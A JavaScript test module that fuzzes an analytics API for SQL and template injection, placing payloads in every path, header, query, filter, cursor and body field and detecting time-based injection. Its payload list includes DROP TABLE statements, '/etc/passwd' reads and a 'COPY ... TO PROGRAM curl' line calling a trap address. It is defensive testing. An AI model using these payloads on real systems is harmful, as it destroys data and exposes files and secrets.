// Does any text reach a store as anything but a value? Payloads of SQL and templates in every place of a request that takes a text.

/** Longest pause that a payload asks for; an answer that takes so long longer than without it has run it. */
const PAUSE_MS = 2_500;

/** @param trap an address of this machine that nothing but an injected query would ask */
// prettier-ignore
export const payloadsFor = (trap) => [
  "'", "''", "\\'", '"', '\\"', '`', '\\`', '\\', '--', '#', ';', '/*', '*/', '\0', '%00', '\u02bc', '\uff07',
  '\u2019', '\u2032', '\u0008',
  "' OR '1'='1", "' OR 1=1 --", "') OR ('1'='1", "1' OR '1'='1' /*", "\\' OR 1=1 --", '" OR ""="',
  '` OR 1=1 --', "'||'1'='1", "' OR 1=1 FORMAT JSON --",
  "'; DROP TABLE events; --", '"; DROP TABLE projects; --', "'; TRUNCATE TABLE events; SELECT '",
  '1; DELETE FROM goals', "'); DROP TABLE funnels; --",
  "' UNION ALL SELECT * FROM events --", "' UNION SELECT name, 1 FROM system.tables --",
  "') UNION ALL SELECT secret FROM projects --",
  "' AND sleep(3)=0 AND '1'='1", '1 OR sleepEachRow(1)', "'; SELECT pg_sleep(3); --", "' || pg_sleep(3) || '",
  '1) OR pg_sleep(3) IS NULL --',
  "' || (SELECT count() FROM file('/etc/passwd', 'LineAsString')) || '", "file('/etc/passwd')",
  "'); SELECT * FROM file('/etc/passwd', LineAsString) --",
  `' || (SELECT * FROM url('${trap}/x', 'LineAsString')) || '`, `url('${trap}/y', LineAsString)`,
  `'; COPY events TO PROGRAM 'curl ${trap}/z'; --`,
  "' INTO OUTFILE '/tmp/owned", "'; SET max_execution_time=0; --", "' SETTINGS max_threads=1 --",
  "' FORMAT Null --", "remote('127.0.0.1', system.one)",
  '{x:String}', '{p0:String}', '{p0:Identifier}', '$1', '$1::text', ':name', '?', '${1+1}', '{{7*7}}',
  '#{7*7}', '<%= 7*7 %>', '%s%n', '$$;SELECT 1;$$', "E'\\047'",
  "\uD800' OR 1=1 --", '%bf%27 OR 1=1', '0x27204f5220313d31', 'char(39)', 'events WHERE 1=1',
  'visitors); DROP TABLE events --', 'visitors:desc, (SELECT 1)',
];

/** Every place of a request that takes a text, as a function that puts another one there.
 *  @param {import('./requests.mjs').Request} request @returns {{ place: string, put: (text: string) => import('./requests.mjs').Request }[]} */
export function placesOf(request) {
  const { operation } = request;
  const places = [];
  for (const { name, in: where } of operation.parameters) {
    if (where === 'path')
      places.push({ place: `path ${name}`, put: (text) => ({ ...request, path: { ...request.path, [name]: text } }) });
    if (where === 'header')
      places.push({
        place: `header ${name}`,
        put: (text) => ({ ...request, headers: { ...request.headers, [name]: text } }),
      });
    if (where !== 'query') continue;
    const others = request.query.filter(([other]) => other !== name);
    places.push({ place: `query ${name}`, put: (text) => ({ ...request, query: [...others, [name, text]] }) });
    if (name === 'filters')
      for (const [what, tree] of Object.entries(FILTERS))
        places.push({
          place: `filter ${what}`,
          put: (text) => ({ ...request, query: [...others, [name, JSON.stringify(tree(text))]] }),
        });
    if (name === 'cursor')
      places.push({
        place: 'inside of a cursor',
        put: (text) => ({ ...request, query: [...others, [name, cursorWith(text)]] }),
      });
  }
  places.push({
    place: 'name of a parameter',
    put: (text) => ({ ...request, query: [...request.query, [text, '1']] }),
  });
  places.push({
    place: 'header X-Request-Id',
    put: (text) => ({ ...request, headers: { ...request.headers, 'X-Request-Id': text } }),
  });
  if (operation.keyed) places.push({ place: 'key', put: (text) => ({ ...request, key: text }) });
  if (request.body !== undefined) {
    for (const path of textsIn(request.body))
      places.push({
        place: `body ${path.join('.')}`,
        put: (text) => ({ ...request, body: withText(request.body, path, text) }),
      });
    places.push({ place: 'name of a field', put: (text) => ({ ...request, body: { ...request.body, [text]: 'x' } }) });
  }
  return places;
}

const FILTERS = {
  operator: (text) => [text, 'event', ['signup']],
  dimension: (text) => ['is', text, ['signup']],
  property: (text) => ['is', `property:${text}`, ['signup']],
  value: (text) => ['is', 'event', [text]],
  pattern: (text) => ['matches', 'page', [text]],
  part: (text) => ['contains', 'title', [text]],
};

/** A cursor as lists make them, with another text for each of its parts. */
const cursorWith = (text) => Buffer.from(JSON.stringify([text, text])).toString('base64url');

const textsIn = (value, path = []) =>
  typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([key, part]) => textsIn(part, [...path, key]))
    : typeof value === 'string'
      ? [path]
      : [];

function withText(value, path, text) {
  const copy = structuredClone(value);
  const last = path.at(-1);
  const node = path.slice(0, -1).reduce((at, key) => at[key], copy);
  node[last] = text;
  return copy;
}

/** The payloads for one place; where there are to be fewer than all, the next ones of a list that goes round. */
export function payloadChoice(all, most) {
  let at = 0;
  return () => (most >= all.length ? all : Array.from({ length: most }, () => all[(at += 1) % all.length]));
}

/** Whether an answer took as long as a payload asked for: three times in a row so much longer than the same without it a moment later, as a
 *  busy machine is late with either.
 *  @param ask sends a request and says how long its answer took, milliseconds */
export async function didPause(firstMs, ask, injected, harmless) {
  let ms = firstMs;
  for (let turn = 0; turn < 3; turn += 1) {
    if (turn > 0) ms = await ask(injected);
    if (ms < PAUSE_MS || ms - (await ask(harmless)) < PAUSE_MS) return false;
  }
  return true;
}
